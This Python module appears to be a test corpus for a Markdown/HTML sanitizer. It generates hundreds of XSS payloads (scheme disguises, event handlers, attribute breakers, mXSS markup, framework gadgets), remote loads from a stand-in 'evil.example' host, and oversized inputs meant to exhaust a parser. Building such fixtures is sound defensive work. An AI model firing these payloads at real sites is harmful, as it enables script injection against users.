"""Texts that try to become code: made by combination, of tricks times places times disguises.

Each trick is a technique from the public literature on cross-site scripting (event handlers, odd
schemes, quotes that end early, markup that changes its meaning when it is parsed again, gadgets of
front-end frameworks, names that shadow the page's own), written anew here.
"""

from itertools import cycle, product
from urllib.parse import quote

# -- Addresses -------------------------------------------------------------------------------------
SCRIPT = "javascript:alert(1)"
SCHEMES = [
    "javascript://example.com/%0aalert(1)",
    "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "mocha:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:text/javascript,alert(1)",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "data:image/png;base64,iVBORw0KGgo=",
    "data:;base64,YWxlcnQoMSk=",
    "data:,x",
    "file:///etc/passwd",
    "blob:https://example.com/1",
    "filesystem:https://example.com/1",
    "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)",
    "pcast:javascript:alert(1)",
    "jar:https://example.com!/x",
    "mhtml:https://example.com/x!y",
    "intent://x#Intent;scheme=http;end",
    "ms-msdt:/id",
    "ms-word:ofe|u|https://evil.example/x",
    "search-ms:query=x",
    "about:blank",
    "chrome://settings",
    "res://x",
    "wyciwyg://x",
    "tel:+1234",
    "sms:+1234",
    "facetime:x",
    "skype:x",
    "ws://evil.example",
    "wss://evil.example",
    "ftp://evil.example/x",
    "ftp:x",
    "gopher://evil.example",
    "ldap://evil.example",
    "x-javascript:alert(1)",
    "javascript",
    "http:evil.example",
    "https:/evil.example",
    "https:\\\\evil.example",
    "http&colon;//evil.example",
]


def _entities(shape: str) -> str:
    return "".join(shape.format(ord(letter)) for letter in SCRIPT)


DISGUISES = [
    SCRIPT,
    "JaVaScRiPt:alert(1)",
    "JAVASCRIPT&colon;alert(1)",
    *(f"{blank}{SCRIPT}" for blank in "\x01\x08\x1b\x1f \xa0\u1680\u2003\u2028\u3000\ufeff\u200b"),
    *(f"java{blank}script:alert(1)" for blank in "\t\n\r\x00\x0b\x0c\xad\u200d\u2028\ufeff"),
    *(f"javascript{blank}:alert(1)" for blank in "\t\n \x00\u200b"),
    *(f"java{code}script:alert(1)" for code in ("&#x09;", "&#10;", "&Tab;", "&NewLine;", "&#0;")),
    *(f"{code}{SCRIPT}" for code in ("&#1;", "&#14;", "&#32;", "&#xA0;", "&#8232;", "&zwnj;")),
    _entities("&#{};"),
    _entities("&#{:07}"),
    _entities("&#x{:x};"),
    _entities("&#X{:06X}"),
    "&#106;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3A;alert&lpar;1&rpar;",
    "&amp;#106;avascript:alert(1)",
    quote(SCRIPT, safe=""),
    "java%0ascript:alert(1)",
    "javascript%3Aalert(1)",
    "\\javascript:alert(1)",
    "java\\script:alert(1)",
    "javascript\\:alert(1)",
    "\\u006aavascript:alert(1)",
    "\uff4a\uff41\uff56\uff41script:alert(1)",
    "javascript\uff1aalert(1)",
    "ja\u0301vascript:alert(1)",
    "j\u0430vascript:alert(1)",  # a Cyrillic a
    "\u202ejavascript:alert(1)",
    "/javascript:alert(1)",
    "./javascript:alert(1)",
    "?javascript:alert(1)",
    "#javascript:alert(1)",
    "//javascript:alert(1)",
]
FOREIGN_DISGUISES = [
    "//evil.example/x",
    "///evil.example/x",
    "/\\evil.example/x",
    "\\\\evil.example/x",
    "/\t/evil.example/x",
    "/&Tab;/evil.example/x",
    "/%09/evil.example/x",
    "https://good.example@evil.example/x",
    "HTTPS://EVIL.EXAMPLE/x",
    "https://127.0.0.1:8000@evil.example/x",
    "https://127.0.0.1:8000.evil.example/x",
    "http://127.0.0.1:8000\\@evil.example/x",
    "https://evil.example\uff0fx",
    "https://evil\u3002example/x",
    "https://xn--e1awd7f.example/x",
    "https://[::1]/x",
    "https://[bad/x",
    "https://",
    "https:///x",
    "//",
    "https://evil.example:99999/x",
    'https://evil.example/"onmouseover=alert(1)//',
    "https://evil.example/'onmouseover=alert(1)//",
    "https://evil.example/`onmouseover=alert(1)//",
    "https://evil.example/<script>alert(1)</script>",
]
ADDRESS_PLACES = [
    "[x]({})",
    "[x](<{}>)",
    "[x]( {} )",
    "[x](\n{}\n)",
    '[x]({} "title")',
    "[x](<{}> 'title')",
    "![x]({})",
    '![x]({} "title")',
    "![x](<{}>)",
    "[![x]({})](/a)",
    "[![x](/a)]({})",
    "[![]({})]({})",
    "[]({})",
    "[ ]({})",
    "[x][r]\n\n[r]: {}",
    "[r]\n\n[r]: <{}>",
    "[x][]\n\n[x]:\n{}\n'title'",
    "![x][r]\n\n[r]: {}",
    "<{}>",
    "{}",
    "a {} b",
    "({})",
    "[{}]({})",
    "[x](/a '{}')",
    "**[x]({})**",
    "## [x]({})",
    "> [x]({})",
    "- [x]({})",
    "- [x] [y]({})",
    "1. ![y]({})",
    "| [x]({}) |\n|---|\n| ![x]({}) |",
    "[^1]\n\n[^1]: [x]({})",
    "^[[x]({})]",
    "`[x]({})`",
    "```{}\nx\n```",
    "~~~ {}\n{}\n~~~",
]
MARKUP_ADDRESS_PLACES = [
    '<a href="{}">x</a>',
    "<a href='{}'>x</a>",
    "<a href={}>x</a>",
    "<a href=`{}`>x</a>",
    "<img src='{}'>",
    "<img srcset='{} 1x'>",
    "<image src='{}'>",
    '<iframe src="{}"></iframe>',
    "<frameset><frame src='{}'></frameset>",
    "<embed src={}>",
    "<object data={}>",
    "<object><param name=movie value='{}'></object>",
    "<applet code='{}'>",
    "<form action={}><button>x</button></form>",
    "<button formaction='{}'>x</button>",
    "<input type=image src='{}' formaction='{}'>",
    "<isindex action='{}' type=submit>",
    "<video src='{}' poster='{}'><source src='{}'><track src='{}'></video>",
    "<audio src='{}'>",
    "<body background='{}'>",
    "<table background='{}'><td background='{}'>x</table>",
    "<script src='{}'></script>",
    "<link rel=stylesheet href='{}'>",
    "<link rel=import href='{}'>",
    "<meta http-equiv=refresh content='0;url={}'>",
    "<base href='{}'>",
    "<area href='{}'>",
    "<svg><a xlink:href='{}'><text y=20>x</text></a></svg>",
    "<svg><use href='{}'/></svg>",
    "<svg><image xlink:href='{}'/></svg>",
    "<svg><script href='{}'/></svg>",
    "<svg><animate attributeName=href values='{}'/></svg>",
    "<svg><set attributeName=href to='{}'/></svg>",
    "<math><mi xlink:href='{}'>x</mi></math>",
    "<math href='{}'>x</math>",
    "<blockquote cite='{}'>x</blockquote>",
    "<q cite='{}'>x</q>",
    "<img longdesc='{}' lowsrc='{}' dynsrc='{}'>",
    "<div style='background:url({})'>x</div>",
    "<portal src='{}'></portal>",
    "<a href=/ ping='{}'>x</a>",
    "<html manifest='{}'>",
]

# -- Markup that runs ------------------------------------------------------------------------------
_EVENT_NAMES = """
abort afterprint animationcancel animationend animationiteration animationstart auxclick
beforecopy beforecut beforeinput beforematch beforeprint beforetoggle beforeunload begin blur
bounce cancel canplay canplaythrough change click close command contextmenu copy cuechange cut
dblclick drag dragend dragenter dragexit dragleave dragover dragstart drop durationchange end
ended error finish focus focusin focusout formdata fullscreenchange gesturestart
gotpointercapture hashchange input invalid keydown keypress keyup load loadeddata
loadedmetadata loadstart lostpointercapture message mousedown mouseenter mouseleave mousemove
mouseout mouseover mouseup mousewheel pagehide pagereveal pageshow pageswap paste pause play
playing pointercancel pointerdown pointerenter pointerleave pointermove pointerout pointerover
pointerrawupdate pointerup popstate progress propertychange ratechange readystatechange repeat
reset resize scroll scrollend scrollsnapchange search securitypolicyviolation seeked seeking
select selectionchange selectstart show slotchange snapchanged snapchanging stalled start
storage submit suspend timeupdate toggle touchcancel touchend touchmove touchstart
transitioncancel transitionend transitionrun transitionstart unhandledrejection unload
volumechange waiting webkitanimationend webkitmouseforcechanged
webkitplaybacktargetavailabilitychanged wheel zoom
"""
_EVENTS = _EVENT_NAMES.split()
_CARRIERS = [
    "<img src=x on{}=alert(1)>",
    "<a href=/x on{}=alert(1)>x</a>",
    "<svg><animate on{}=alert(1) attributeName=x dur=1s></svg>",
    "<input autofocus tabindex=1 on{}=alert(1)>",
    "<details open on{}=alert(1)><summary>x</summary></details>",
    "<video controls on{}=alert(1)><source src=x></video>",
    "<body on{}=alert(1)>",
    "<x contenteditable on{}=alert(1) style=display:block>x</x>",
    "<p class=footnotes id=h-x on{}=alert(1)>x</p>",
    "<li class=task on{}=alert(1)>x</li>",
]
HANDLERS = [
    carrier.format(event) for event, carrier in zip(_EVENTS * 2, cycle(_CARRIERS), strict=False)
]
# What may stand between a tag's name and an attribute, and around its value.
_JOINTS = [" ", "/", "\t", "\n", "\r", "\x0b", "\x0c", "\x00", "\xa0", "//", '""', "''", " x=x/"]
_QUOTED = ["alert(1)", '"alert(1)"', "'alert(1)'", "`alert(1)`", "&quot;alert(1)", " = alert(1)"]
SPELLINGS = [
    *(f"<img{joint}src=x{joint}onerror=alert(1)>" for joint in _JOINTS),
    *(f"<img src=x onerror={value}>" for value in _QUOTED),
    *(f"<{name}>alert(1)</{name}>" for name in ("ScRiPt", "script\x00", "script/x", "script\t")),
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "<script <b>alert(1)</script>",
    "<script/x>alert(1)</script/x>",
    "<script>alert(1)</script",
    "<script\n>alert(1)</script\n>",
    "<0000<script>alert(1)</script>",
    "<img src=x onerror=alert(1)",
    "<img src=x onerror=alert(1)//",
    "<img src=x onerror='alert(1)' style='position:fixed'>",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img src=x one\u0131rror=alert(1)>",
    "<img src=x on&#101;rror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)//`>",
    '<img "\'"src=x onerror=alert(1)>',
    "<svg/onload=alert(1)//",
    "<svg onload=alert&lpar;1&rpar;>",
    "<\u0000img src=x onerror=alert(1)>",
    "\u2028<script>alert(1)</script>\u2029",
    "\ufeff<script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\xbcscript\xbealert(1)\xbc/script\xbe",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\x3cscript\\x3ealert(1)",
    "\\<script>alert(1)\\</script>",
    '"><script>alert(1)</script>',
    "'\"--></style></script><script>alert(1)</script>",
    "</div></article></main><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<![><img src=']><img src=x onerror=alert(1)//'>",
    "<? x='><img src=x onerror=alert(1)>'>",
    "<?xml version='1.0'?><?xml-stylesheet href='javascript:alert(1)'?><?php echo 1 ?>",
    "<!DOCTYPE x [<!ENTITY a '<img src=x onerror=alert(1)>'>]>&a;",
    "<% x='%><img src=x onerror=alert(1)>' %>",
]
ELEMENTS = [
    *(f"<{name}><script>alert(1)</script></{name}>" for name in ("plaintext", "xmp", "listing")),
    "<style>@import '//evil.example';*{x:expression(alert(1))}</style>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<template><img src=x onerror=alert(1)></template>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<input type=hidden name=csrfmiddlewaretoken>",
    "<input type=hidden popover oncontentvisibilityautostatechange=alert(1)>",
    "<button popovertarget=x>x</button><x popover id=x onbeforetoggle=alert(1)>x</x>",
    "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>",
    "<fencedframe config=x></fencedframe>",
    "<selectedcontent onclick=alert(1)>",
    "<a href='/x' target=_blank>x</a>",
    "<a href=/x download=x.exe>x</a>",
    "<p style='width:expression(alert(1));-moz-binding:url(//evil.example/x)'>x</p>",
    "<p style='behavior:url(//evil.example/x)'>x</p>",
    "<div datasrc=#x datafld=x dataformatas=html>x</div>",
    "<marquee loop=1 width=0 onfinish=alert(1)>x</marquee>",
    "<keygen autofocus onfocus=alert(1)>",
    "<event-source src=//evil.example onload=alert(1)>",
    "<svg><handler ev:event=load>alert(1)</handler></svg>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<svg><discard onbegin=alert(1)>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<xml id=x src=//evil.example/x></xml>",
]
# Elements whose content is read by other rules than it is written by.
_OUTER = ["math", "svg", "math><mtext", "math><annotation-xml encoding='text/html'", "svg><desc"]
_OUTER += ["svg><foreignobject", "table", "table><svg", "form><math><mtext></form><form", "select"]
_OUTER += ["svg></p", "math></br", "noscript", "template", "p><svg", "li><math><mi"]
_INNER = [
    "style",
    "title",
    "textarea",
    "noscript",
    "noembed",
    "noframes",
    "xmp",
    "script",
    "iframe",
]
_INNER += ["mglyph><style", "malignmark><style", "table><mglyph><style", "option><style", "!--"]
_INNER += ["![CDATA[", "a title=", "p title='", "plaintext"]
_ENDINGS = [
    "{close}<img src=x onerror=alert(1)>",
    "<a title='{close}<img src=x onerror=alert(1)>'>",
]
MUTATIONS = [
    f"<{outer}><{inner}>" + ending.format(close=f"</{inner.split('><')[-1].split()[0]}>")
    for outer, inner, ending in product(_OUTER, _INNER, _ENDINGS)
]
GADGETS = [
    "<div x-data x-init='alert(1)' x-html='alert(1)' @click='alert(1)' :class='alert(1)'>x</div>",
    "<div x-on:click.window='alert(1)' x-bind:style='alert(1)' x-teleport=body>x</div>",
    "<div hx-get=/admin/ hx-trigger=load hx-on:click=alert(1)>x</div>",
    "<div data-hx-get=/admin/ data-turbo-method=delete data-controller=x data-action=x>x</div>",
    "<div v-html='alert(1)' v-on:click='alert(1)' ng-app ng-init='alert(1)'>x</div>",
    "<div is=x-y slot=x part=x exportparts=x nonce=x>x</div>",
    "<div class='unfold modal fixed inset-0' id='main' role=dialog aria-modal=true>x</div>",
    "<span class='hl-k modal' style=x>x</span><span class=hl-x onclick=alert(1)>x</span>",
    "<p itemprop=x itemscope itemid=javascript:alert(1) about=x typeof=x>x</p>",
    "<a id=document name=cookie href=/x>x</a><form id=body><input name=attributes></form>",
    "<img name=getElementById><a id=h-x name=fn1>x</a><p id='h-x\" onmouseover=alert(1)'>x</p>",
    "<p id=h->x</p><p id='h- x'>x</p><p id=fn>x</p><p id=fnx>x</p>",
    "<p tabindex=-1 accesskey=x contenteditable draggable hidden inert autofocus>x</p>",
    "{{ 7|add:7 }} {% load x %} ${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('alert(1)')()}}",
]
# What ends an attribute's value, in places where words of the text become one.
BREAKERS = [
    '" onmouseover=alert(1) x="',
    "' onmouseover=alert(1) x='",
    '\\" onmouseover=alert(1) \\"',
    "&quot; onmouseover=alert(1) x=&quot;",
    "&#34;&#62;&#60;img src=x onerror=alert(1)&#62;",
    '"><img src=x onerror=alert(1)>',
    "'><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "`onmouseover=alert(1)",
    '\x00" onmouseover=alert(1)',
    '\u2028" onmouseover=alert(1)',
    "</code></pre></figure></label></td></table><script>alert(1)</script>",
]
VALUE_PLACES = [
    "[x](/a '{}')",
    '[x](/a "{}")',
    "[x](/a ({}))",
    '![x](/media/a.png "{}")',
    "![{}](/media/a.png)",
    '[![](/media/a.png "{}")](/a "{}")',
    "[![{}](/media/a.png)](/a)",
    "![{}](https://evil.example/a.png '{}')",
    "[{}](/a)",
    "[{}][r]\n\n[r]: /a '{}'",
    "[^{}]\n\n[^{}]: {}",
    "^[{}]",
    "## {}",
    "# {}\n\n### {}",
    "| {} | {} |\n|---|:-:|\n| {} | x |",
    "- [ ] {}",
    "- [x] ![{}](/media/a.png)",
    "```{}\nx\n```",
    "``` py {}\nx\n```",
    "```html\n{}\n```",
    "```python\n'''{}'''\n```",
    "```diff\n+{}\n-{}\n```",
    "~~~js\n`${{}}`\n~~~",
    "`{}`",
    "    {}",
    "> {}",
    "*{}* **{}** ~~{}~~",
    "<https://a.example/{}>",
    "https://a.example/{}",
    "<a@b.example{}>",
    "\u05d0\u05d1\u05d2 {}\n\n\u05d0\u05d1\u05d2\n\nEnglish {}",
]
TEXT_PLACES = ["{}", "text\n\n{}\n\ntext", "*a {} b*", "## {}", "- {}\n  {}", "| {} |\n|-|\n| {} |"]
TEXT_PLACES += [
    "> {}",
    "[{}](/a)",
    "![{}](/media/a.png)",
    "[^1]\n\n[^1]: {}",
    "```\n{}\n```",
    "\t{}",
]
MARKDOWN = [
    "[x](https://[::1]/)",
    '## x {#document onclick="alert(1)"}',
    "## constructor\n\n## __proto__\n\n## main\n\n## hasOwnProperty",
    "[^__proto__] [^constructor]\n\n[^__proto__]: x",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]: /a\n\n[x]: javascript:alert(1)\n\n[x]",
    "[a[^1]](/x)\n\n[^1]: [b](/y)",
    "[![a](/media/x.png)[b](/y)](/z)",
    "![a ![b](https://evil.example/x.png) c](/media/x.png)",
    "- [x] [a](/x)[^1]\n\n[^1]: - [ ] b",
    "> - > - > ```html\n> - > - > <script>alert(1)</script>\n",
    "a\x00b [x\x00](java\x00script:alert(1))",
    "*<scr*ipt>alert(1)</scr*ipt>*",
    "> <script>\n> alert(1)\n> </script>",
    "<script>\n\nalert(1)\n\n</script>",
    "<div>\n*x*\n</div>\n<script>\nalert(1)\n</script>",
]


def _filled(places: list[str], fillings: list[str]) -> list[str]:
    return [place.replace("{}", filling) for place, filling in product(places, fillings)]


MARKUP = [*SPELLINGS, *ELEMENTS, *GADGETS, *HANDLERS, *MUTATIONS]
ALL = [
    *_filled(ADDRESS_PLACES, DISGUISES + SCHEMES + FOREIGN_DISGUISES),
    *_filled(MARKUP_ADDRESS_PLACES, [SCRIPT, *SCHEMES[:9], *FOREIGN_DISGUISES[:3]]),
    *_filled(MARKUP_ADDRESS_PLACES[:2], DISGUISES),
    *_filled(VALUE_PLACES, BREAKERS),
    *_filled(TEXT_PLACES, SPELLINGS + ELEMENTS + GADGETS),
    *HANDLERS,
    *MUTATIONS,
    *MARKDOWN,
]

# -- For chance to put together --------------------------------------------------------------------
PIECES = [
    *("[", "]", "(", ")", "![", "](", "](<", ">)", "[^1]", "\n\n[^1]: ", "^[", "\n[r]: ", "<", ">"),
    *("`", "```", "\n```py\n", "\n~~~html\n", "\n", "\n\n", "    ", "> ", "- ", "- [x] ", "1. "),
    *("# ", "|", "\n|-|\n", "*", "_", "~~", '"', "'", "&", "&#106;", "\\", "\x00", "\t", "\u2028"),
    *("\ud800", "\u202e", "\u05d0\u05d1", "//", "/\\", "javascript:", "data:text/html,"),
    *("https://evil.example", "/media/a.png", "onerror=", "x-init=", "style=", "<script>"),
    *("<img src=", "<svg onload=", "-->", "<!--", "</p>", "alert(1)", "id=", "class=", "{#x}"),
    *("<math><mtext>", "<style>", "</style>", "<table>", "<noscript>", "<template>", "]]>", "&lt;"),
]

_SIZE = 100_000
EXHAUSTING = {
    "brackets": "[" * _SIZE,
    "brackets with spaces": "[ " * (_SIZE // 2),
    "nested links": "[a](" * (_SIZE // 4),
    "nested pairs": "[a[ " * (_SIZE // 8) + "]] " * (_SIZE // 8),
    "images": "![ " * (_SIZE // 3),
    "footnotes": "[^1] " * (_SIZE // 5) + "\n\n[^1]: x",
    "inline footnotes": "^[a " * (_SIZE // 4),
    "apostrophes": "'" * _SIZE,
    "words with apostrophes": "a'b " * (_SIZE // 4),
    "emphasis": "*a _b " * (_SIZE // 6),
    "addresses without end": "http://a" * (_SIZE // 8),
    "addresses": "http://a.b " * (_SIZE // 11),
    "links": "[a](/b) " * (_SIZE // 8),
    "quotes": ">" * _SIZE,
    "lists": "- " * (_SIZE // 2),
    "tasks": "- [ ] a\n" * (_SIZE // 8),
    "headings": "# a\n" * (_SIZE // 4),
    "headings without words": "#\n" * (_SIZE // 2),
    "figures": '![a](/media/a.png "b")\n\n' * (_SIZE // 24),
    "angle brackets": "<a " * (_SIZE // 3),
    "table cells": "|a" * 25_000 + "\n" + "|-" * 25_000,
    "tables": "|a|b|\n|-|-|\n|1|2|\n\n" * (_SIZE // 19),
    "backslashes": "\\" * _SIZE,
    "entities": "&#" * (_SIZE // 2),
    "one long word": "x" * _SIZE,
    "both directions": "\u05d0\u05d1\u05d2\n\nabc\n\n" * (_SIZE // 10),
    "blocks of code": "```py\nx = 1\n```\n" * (_SIZE // 16),
    "one block of code": "```py\n" + "x = 'a' + f'{b}'  # c\n" * (_SIZE // 22) + "```",
}
